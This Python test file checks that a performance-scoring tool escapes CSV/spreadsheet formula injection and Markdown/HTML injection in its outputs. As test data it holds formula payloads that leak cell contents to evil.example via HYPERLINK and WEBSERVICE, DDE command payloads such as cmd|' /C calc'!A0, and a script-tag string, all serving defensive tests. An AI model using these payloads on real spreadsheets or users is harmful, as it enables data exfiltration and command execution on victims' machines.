"""Issue 10, Security: a value that starts with `=` is written as text, never as a formula.

The hostile values are the issue's own: HYPERLINK, WEBSERVICE, a DDE `cmd|' /C calc'!A0`,
and the other OWASP starts (+ - @ tab CR), put where a unit writes free text (unit name,
target, actual, deviation reason) and into category names. Every written file must read
back as the same input and score the same.
"""

from __future__ import annotations

import json
import zipfile
from dataclasses import asdict
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import yaml

import perfrules
from perfrules import sources
from perfrules.cli import main
from perfrules.sources.sheet import unquote_csv
from perfrules.render.csv import csv_cell
from perfrules.render.markdown import md_cell

ROOT = Path(__file__).resolve().parents[2]
HUNAN = ROOT / "rulesets" / "hunan" / "department-2021.yaml"
EXAMPLE = ROOT / "examples" / "zhuzhou-department-2021.yaml"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/?x="&B2)'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, WEBSERVICE, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-1+cmd|' /C calc'!A0", "'=1+1", "''already quoted"]


def hostile_input(tmp_path: Path) -> Path:
    """The Zhuzhou department input with hostile text in its free-text cells."""
    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    data["unit"] = HYPERLINK
    rows = data["indicators"]
    for row, text in zip(rows, HOSTILE):
        row["deviation_reason"] = text
    rows[0]["target"] = WEBSERVICE  # a target and an actual that cannot be read: unscored, the same both times
    rows[1]["actual"] = DDE
    # a unit's own indicator whose names are formulas (scored by the scheme's rules, or reported as unused)
    rows.append({"level1": "产出指标", "level2": "@SUM(1+1)*cmd|' /C calc'!A0", "name": '=HYPERLINK("http://evil.example","指标")',
                 "target": "≥90%", "actual": "95%", "weight": 1, "reported_score": 1})
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def same_result(a: perfrules.Result, b: perfrules.Result) -> None:
    assert (a.total, a.grade) == (b.total, b.grade)
    assert [(i.name, i.score, i.explanation) for i in a.indicators] == [(i.name, i.score, i.explanation) for i in b.indicators]
    assert [str(f) for f in a.findings] == [str(f) for f in b.findings]


def test_the_xlsx_has_no_formula_and_every_text_cell_is_a_string(capsys, tmp_path):
    out = tmp_path / "out.xlsx"
    run(capsys, "score", str(HUNAN), str(hostile_input(tmp_path)), "-o", str(out))
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    book = openpyxl.load_workbook(out)  # formulas as written, not cached values
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {HYPERLINK, WEBSERVICE, DDE, '=HYPERLINK("http://evil.example","指标")'} <= texts
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))


def test_the_csv_neutralises_every_formula_start(capsys, tmp_path):
    out = tmp_path / "out.csv"
    run(capsys, "score", str(HUNAN), str(hostile_input(tmp_path)), "-o", str(out))
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not _number(c)]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "''=1+1" in cells and "'''already quoted" in cells


def _number(text: str) -> bool:
    try:
        Decimal(text.rstrip("%"))
        return True
    except ArithmeticError:
        return False


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_written_file_reads_back_as_the_same_input_and_scores_the_same(capsys, tmp_path, suffix):
    given = hostile_input(tmp_path)
    out = tmp_path / f"out{suffix}"
    run(capsys, "score", str(HUNAN), str(given), "-o", str(out))
    ra, rb = sources.read(given), sources.read(out)
    assert rb.unit == HYPERLINK
    assert [asdict(r) for r in ra.rows] == [asdict(r) for r in rb.rows]
    scheme = perfrules.load(HUNAN)
    same_result(scheme.evaluate(ra), scheme.evaluate(rb))
    # and through the command line, as the issue asks: the written file scored again
    code_a, text_a, _ = run(capsys, "score", str(HUNAN), str(given), "--format", "json")
    code_b, text_b, _ = run(capsys, "score", str(HUNAN), str(out), "--format", "json")
    assert code_a == code_b and json.loads(text_a) == json.loads(text_b)


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1+1", "\r=1+1", "-5", "+3.5%", "-0.5", "'abc", "'", "abc", "", "=", "'-5", "-", "--"])
def test_csv_quoting_is_undone_exactly(text):
    written = csv_cell(text)
    assert written[:1] not in ("=", "@", "\t", "\r") and (written[:1] not in ("+", "-") or _number(written))
    # the CSV reader strips every cell before the table reader sees it
    assert unquote_csv(written.strip() or None) == (text.strip() or None)


def test_a_units_own_apostrophe_in_a_csv_is_kept():
    assert unquote_csv("'abc") == "'abc"
    assert unquote_csv("'") == "'"
    assert unquote_csv("''abc") == "'abc"  # what perfrules writes for 'abc


def test_markdown_escapes_the_title_as_it_does_table_cells(capsys, tmp_path):
    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    data["unit"] = "株洲市<script>alert(1)</script>\n# 伪造标题 | x"
    data["indicators"][0]["level1"] = "产出指标"
    given = tmp_path / "in.yaml"
    given.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    out = tmp_path / "out.md"
    run(capsys, "score", str(HUNAN), str(given), "-o", str(out))
    text = out.read_text(encoding="utf-8")
    first = text.splitlines()[0]
    assert first == "# 株洲市&lt;script&gt;alert(1)&lt;/script&gt;<br># 伪造标题 \\| x · 湖南省部门整体支出绩效自评评分（2021年度）（hunan/department-2021）"
    assert "<script>" not in text and "\n# 伪造标题" not in text


def test_md_cell():
    assert md_cell("a|b\nc\r\nd<b>&") == "a\\|b<br>c<br>d&lt;b&gt;&amp;"


def test_control_characters_from_a_csv_input_do_not_stop_the_xlsx(capsys, tmp_path):
    """Text pasted from Word (\\x07, \\x00) in a CSV input: openpyxl refuses it, the cell shows � instead."""
    base = tmp_path / "base.csv"
    run(capsys, "score", str(HUNAN), str(EXAMPLE), "-o", str(base))
    text = base.read_text(encoding="utf-8-sig").replace("株洲市劳动卫生职业病防治中心", "株洲市\x07劳动卫生\x00中心", 1)
    given = tmp_path / "ctl.csv"
    given.write_text(text, encoding="utf-8-sig")
    out = tmp_path / "out.xlsx"
    code, _, err = run(capsys, "score", str(HUNAN), str(given), "-o", str(out))
    assert code == 0, err
    assert sources.read(out).unit == "株洲市\ufffd劳动卫生\ufffd中心"


def test_a_batch_summary_neutralises_file_names_too(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "=HYPERLINK(1)<b>.yaml").write_bytes(EXAMPLE.read_bytes())
    run(capsys, "score", str(HUNAN), "*.yaml", "-o", "summary.csv")
    import csv
    import io

    rows = list(csv.reader(io.StringIO((tmp_path / "summary.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][0] == "'=HYPERLINK(1)<b>.yaml"
    run(capsys, "score", str(HUNAN), "*.yaml", "-o", "summary.md")
    assert "| =HYPERLINK(1)&lt;b&gt;.yaml | 100.00 |" in (tmp_path / "summary.md").read_text(encoding="utf-8")
    run(capsys, "score", str(HUNAN), "*.yaml", "-o", "summary.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "summary.xlsx").active["A2"]
    assert (cell.value, cell.data_type) == ("=HYPERLINK(1)<b>.yaml", "s")
